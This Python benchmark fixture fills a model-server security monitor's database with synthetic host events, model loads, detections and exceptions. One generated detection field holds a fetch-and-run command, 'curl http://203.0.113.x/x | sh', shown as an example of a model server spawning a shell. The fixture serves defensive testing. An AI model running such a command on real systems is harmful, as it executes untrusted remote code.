"""A large store, made with the store's own tables: events of many hosts over days, loads of models, detections, exceptions.

Deterministic, but for the time that it ends at: now. Ten million rows take about two minutes and 700 MB of disk.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from modelward_collector.data_folder import DataFolder
from modelward_collector.store.ddl.migrations import migrate
from modelward_collector.store.engine import Lane, execute, rows

if TYPE_CHECKING:
    from chdb.state.sqlitelike import Connection

INSERT_ROWS = 100_000


@dataclass(frozen=True, slots=True)
class Size:
    """How much of each."""

    events: int = 10_000_000
    days: int = 10
    hosts: int = 50
    loads: int = 100_000
    detections: int = 20_000
    detection_days: int = 30


ALL = Size()

_BOOT = "concat('2f0c1a2b-0000-4000-8000-', leftPad(toString(host), 12, '0'))"
_PROCESS = "concat('2f0c1a2b-', toString({pid}), '-', toString(55000000 + host))"


def make(root: Path, size: Size = ALL) -> None:
    """Fill the data folder ``root``, which must be new or empty."""
    folder = DataFolder(root)
    folder.create()
    lane = Lane("bench", folder.engine)
    try:
        lane.call(lambda c: migrate(c, 400, detection_days=400))
        lane.call(lambda c: _fill(c, size))
        lane.call(_settle)
    finally:
        lane.close()


def _fill(connection: Connection, size: Size) -> None:
    now = int(time.time())
    _insert(connection, "hosts_raw", _hosts(now), size.hosts)
    _insert(connection, "ledger_raw", _ledger(now), size.hosts * 60)
    for start in range(0, size.loads, INSERT_ROWS):
        _insert(connection, "bindings", _loads(now, size, start), min(INSERT_ROWS, size.loads - start))
    _insert(connection, "detections_raw", _detections(now, size), size.detections)
    _insert(connection, "exceptions_raw", _exceptions(now), 20)
    # A day after the other, as agents send them: each insert is a part of one day.
    of_a_day = size.events // size.days
    for day in range(size.days):
        for start in range(0, of_a_day, INSERT_ROWS):
            number = min(INSERT_ROWS, of_a_day - start)
            _insert(connection, "events_raw", _events(now, size, day, start, of_a_day), number)


def _insert(connection: Connection, table: str, columns: dict[str, str], count: int) -> None:
    shown = ", ".join(f"{what} AS {name}" for name, what in columns.items() if name not in ("n", "host"))
    names = ", ".join(name for name in columns if name not in ("n", "host"))
    with_ = f"WITH {columns['n']} AS n, {columns['host']} AS host " if "n" in columns else ""
    execute(connection, f"INSERT INTO modelward.{table} ({names}) SETTINGS async_insert = 0, max_threads = 1, "
            "min_insert_block_size_rows = 1000000, min_insert_block_size_bytes = 1000000000, max_block_size = 8192, "
            f"max_memory_usage = 300000000 {with_}SELECT {shown} FROM numbers({count})")


def _pick(*values: str, salt: int = 0) -> str:
    listed = ", ".join(f"'{v}'" for v in values)
    return f"[{listed}][1 + cityHash64(n, {salt}) % {len(values)}]"


def _hosts(now: int) -> dict[str, str]:
    return {
        "n": "number", "host": "number", "host_name": "concat('gpu-', toString(host))",
        "agent_id": "leftPad(hex(host), 32, '0')", "epoch": "leftPad(hex(host), 32, 'e')", "updated": f"toDateTime64({now}, 3)",
        "first_seen": f"toDateTime64({now - 864000}, 3)", "last_seen": f"toDateTime64({now}, 3)", "connected": "host % 10 != 0",
        "agent_version": "'0.1.0'", "kernel_release": "'6.18.0'", "boot_id": _BOOT,
        "labels": "['env=prod', concat('team=', toString(host % 7))]",
        "doors": "arrayMap(e -> (e, 'tp_btf', 'first choice on this kernel', true, ''), "
                 "['exec', 'fork', 'exit', 'file_open', 'connect', 'answer'])",
    }


def _ledger(now: int) -> dict[str, str]:
    return {
        "n": "number", "host": "intDiv(number, 60)", "host_name": "concat('gpu-', toString(host))",
        "agent_id": "leftPad(hex(host), 32, '0')", "epoch": "leftPad(hex(host), 32, 'e')",
        "hop": _pick("seen", "drained", "spooled", "sent", "received", "stored").replace("cityHash64(n, 0)", "n"),
        "kind": "['exec', 'fork', 'exit', 'file_open', 'connect', 'lifecycle', 'listen', 'signal', 'loss', 'model_identity']"
                "[1 + intDiv(n % 60, 6)]",
        "count": "200000", "at": f"toDateTime64({now}, 3)",
    }


def _loads(now: int, size: Size, start: int) -> dict[str, str]:
    each = size.loads // size.hosts
    return {
        "n": f"number + {start}", "host": f"n % {size.hosts}", "host_name": "concat('gpu-', toString(host))",
        "agent_id": "leftPad(hex(host), 32, '0')", "epoch": "leftPad(hex(host), 32, 'e')",
        "time": f"toDateTime64({now} - {size.days} * 86400 + intDiv(n, {size.hosts}) * {size.days * 86400 / each}, 9, 'UTC')",
        "workload_id": f"concat('host:', {_PROCESS.format(pid='4000 + n % 4')})",
        "model_instance": f"1 + intDiv(n, {size.hosts})",
        "host_boot_id": _BOOT, "workload_runtime": _pick("uvicorn", "llama-server", "tritonserver", "vllm"),
        "workload_runtime_version": "'1.2.3'", "process_pid": "4000 + n % 4",
        "model_id": "concat('org/model-', toString(cityHash64(n) % 500))", "model_revision": "'main'",
        "model_digest": "lower(hex(SHA256(toString(cityHash64(n) % 500))))",
        "model_format": _pick("gguf", "safetensors", "onnx"), "model_source": "'hf_cache'",
        "model_architecture": _pick("llama", "qwen2", "bert"), "model_quantization": "'Q4_K_M'",
        "model_path": "concat('/srv/hub/models--org--model-', toString(cityHash64(n) % 500), '/snapshots/main/model.gguf')",
    }


def _events(now: int, size: Size, day: int, start: int, of_a_day: int) -> dict[str, str]:
    # Rows of a part come host by host and in the order of time, as the table keeps them.
    begin = now - (size.days - day) * 86_400
    each = size.loads // size.hosts
    # Of each host every hundred rows.
    k = f"(intDiv(n, {size.hosts}) % 100)"
    kind = (f"multiIf({k} < 70, 'file_open', {k} < 82, 'connect', {k} < 88, 'fork', {k} < 93, 'exec', "
            f"{k} < 97, 'exit', {k} < 99, 'lifecycle', 'listen')")
    # Servers, 4000 to 4003, change phase and never exit; what they start does.
    pid = f"if({k} IN (97, 98), 4000 + n % 4, 4004 + cityHash64(n, 3) % 36 + {day} * 100)"
    changes = _pick("artifact_open", "quiet", "answer", "unload", salt=8)
    scope = f"transform({changes}, ['artifact_open', 'quiet'], ['open', 'tail'], 'none')"
    return {
        "n": f"number + {start} + {day * of_a_day}", "host": f"number % {size.hosts}",
        "host_name": "concat('gpu-', toString(host))", "agent_id": "leftPad(hex(host), 32, '0')",
        "epoch": "leftPad(hex(host), 32, 'e')", "batch": "intDiv(n, 5000)", "row": "n % 5000",
        "batch_time": f"toDateTime64({begin} + 43200, 9, 'UTC')",
        "time": f"toDateTime64({begin} + (n - {day * of_a_day}) * {86_400 / of_a_day}, 9, 'UTC')",
        "event_name": kind, "event_outcome": "'success'", "count": "1 + (n % 7 = 0) * 30", "host_boot_id": _BOOT,
        "workload_id": f"concat('host:', {_PROCESS.format(pid='4000 + n % 4')})",
        "workload_runtime": _pick("uvicorn", "llama-server", "tritonserver", "vllm"),
        "process_pid": pid, "thread_id": pid, "process_entity_id": _PROCESS.format(pid=pid),
        "process_parent_pid": "4000 + n % 4", "process_parent_entity_id": _PROCESS.format(pid="4000 + n % 4"),
        "process_root_id": _PROCESS.format(pid="4000 + n % 4"), "process_entry": "'child'",
        "process_chain": _pick("python3.11 > python3.11", "uvicorn > sh > ldconfig", "llama-server", "tritonserver > python3"),
        "process_executable_path": _pick(
            "/usr/bin/python3.11", "/usr/bin/dash", "/opt/llama/llama-server", "/usr/bin/gcc-12", salt=4),
        "process_command_line": "concat('python3.11 -m serve --port 8000 --worker ', toString(n % 977))",
        "process_working_directory": "'/srv'", "user_id": "1000",
        "file_path": f"if({k} < 70, concat('/srv/models/shard-', toString(cityHash64(n, 5) % 20000), '.bin'), '')",
        "file_inode": f"if({k} < 70, cityHash64(n, 5) % 20000, 0)", "file_access": f"if({k} < 70, 'read', 'none')",
        "file_class": f"if({k} < 70, 'artifact', 'none')",
        "destination_address": f"if({k} BETWEEN 70 AND 81, concat('10.0.', toString(n % 250), '.7'), '')",
        "destination_port": f"if({k} BETWEEN 70 AND 81, 443, 0)", "destination_class": "'private'",
        "network_transport": "'tcp'", "model_instance": f"1 + intDiv(n * {each}, {size.events})",
        "lifecycle_phase": _pick("serve", "serve", "serve", "load", salt=6), "lifecycle_from": "'load'",
        "lifecycle_trigger": f"if({k} IN (97, 98), {changes}, 'none')",
        "lifecycle_scope": f"if({k} IN (97, 98), {scope}, 'none')",
        "lifecycle_evidence": "'observed'",
        "lifecycle_origin_instance": f"if(n % 20 = 0, 1 + intDiv(n * {each}, {size.events}), 0)",
    }


def _detections(now: int, size: Size) -> dict[str, str]:
    each = size.loads // size.hosts
    step = size.detection_days * 86_400 / size.detections
    return {
        "n": "number", "host": f"intDiv(n, 4) * 7 % {size.hosts}", "detection_id": "lower(hex(MD5(toString(n))))",
        "time": f"toDateTime64({now} - (n + 1) * {step}, 9, 'UTC')",
        "detected_at": f"toDateTime64({now} - (n + 1) * {step} + 0.2, 9, 'UTC')",
        "stored_at": f"toDateTime64({now} - (n + 1) * {step} + 0.4, 9, 'UTC')",
        "rule_id": "toString(n % 40)", "rule_name": "concat('rule_', toString(n % 40))", "rule_version": "'0123456789ab'",
        "rule_title": "concat('Something that a model server never does, number ', toString(n % 40))",
        "severity": _pick("low", "medium", "high", "critical"), "response": "'observe'",
        "sentence": "concat('python3.11 ran sh -c \\'curl http://203.0.113.', toString(n % 250), '/x | sh\\' in a load')",
        "reason": "'A load reads a file. It starts no shell, and a shell that it starts is somebody else\\'s program.'",
        "next_step": "'Stop the server, keep the model file, and look what else the process did: modelward events --process'",
        "attack": "['T1059', 'AML.T0011']", "group_key": "concat('workload/', toString(intDiv(n, 4)))",
        "host_name": "concat('gpu-', toString(host))", "agent_id": "leftPad(hex(host), 32, '0')",
        "workload_id": f"concat('host:', {_PROCESS.format(pid='4000 + n % 4')})", "workload_runtime": "'uvicorn'",
        "event_name": "'exec'", "process_pid": "4001", "process_entity_id": _PROCESS.format(pid="4001"),
        "process_root_id": _PROCESS.format(pid="4000 + n % 4"), "process_chain": "'uvicorn > sh > curl'",
        "process_executable_path": _pick("/usr/bin/dash", "/usr/bin/curl", "/usr/bin/python3.11", salt=4),
        "process_command_line": "concat('sh -c ', toString(n))", "lifecycle_phase": "'load'", "lifecycle_scope": "'open'",
        "lifecycle_origin_phase": "'load'", "lifecycle_evidence": "'observed'",
        "lifecycle_origin_instance": f"1 + cityHash64(n) % {each}", "model_instance": f"1 + cityHash64(n) % {each}",
        "events": "[concat(leftPad(hex(host), 32, '0'), '/', leftPad(hex(host), 32, 'e'), '/', toString(n % 2000), '/', "
                  "toString(n % 5000))]",
    }


def _exceptions(now: int) -> dict[str, str]:
    return {
        "n": "number", "host": "number", "id": "leftPad(lower(hex(n)), 16, '0')", "rule_name": "concat('rule_', toString(n))",
        "model_digest": "lower(hex(SHA256(toString(n))))", "executable_path": "'/usr/bin/dash'",
        "host_name": "if(n % 3 = 0, 'gpu-1', '')", "reason": "'known, see the ticket'", "author": "'ann'",
        "created": f"toDateTime64({now - 86400}, 9, 'UTC')", "expires": f"toDateTime64({now + 86400 * 20}, 9, 'UTC')",
        "changed": f"toDateTime64({now - 86400}, 9, 'UTC')",
    }


def _settle(connection: Connection) -> None:
    """Wait until the engine has merged most parts, as it has in a store that grew over days."""
    until = time.monotonic() + 180
    while time.monotonic() < until:
        [[parts, merging]] = rows(connection, """SELECT (SELECT count() FROM system.parts WHERE database = 'modelward'
            AND table = 'events_raw' AND active), (SELECT count() FROM system.merges)""")
        if int(merging) == 0 and int(parts) < 80:
            return
        time.sleep(2)
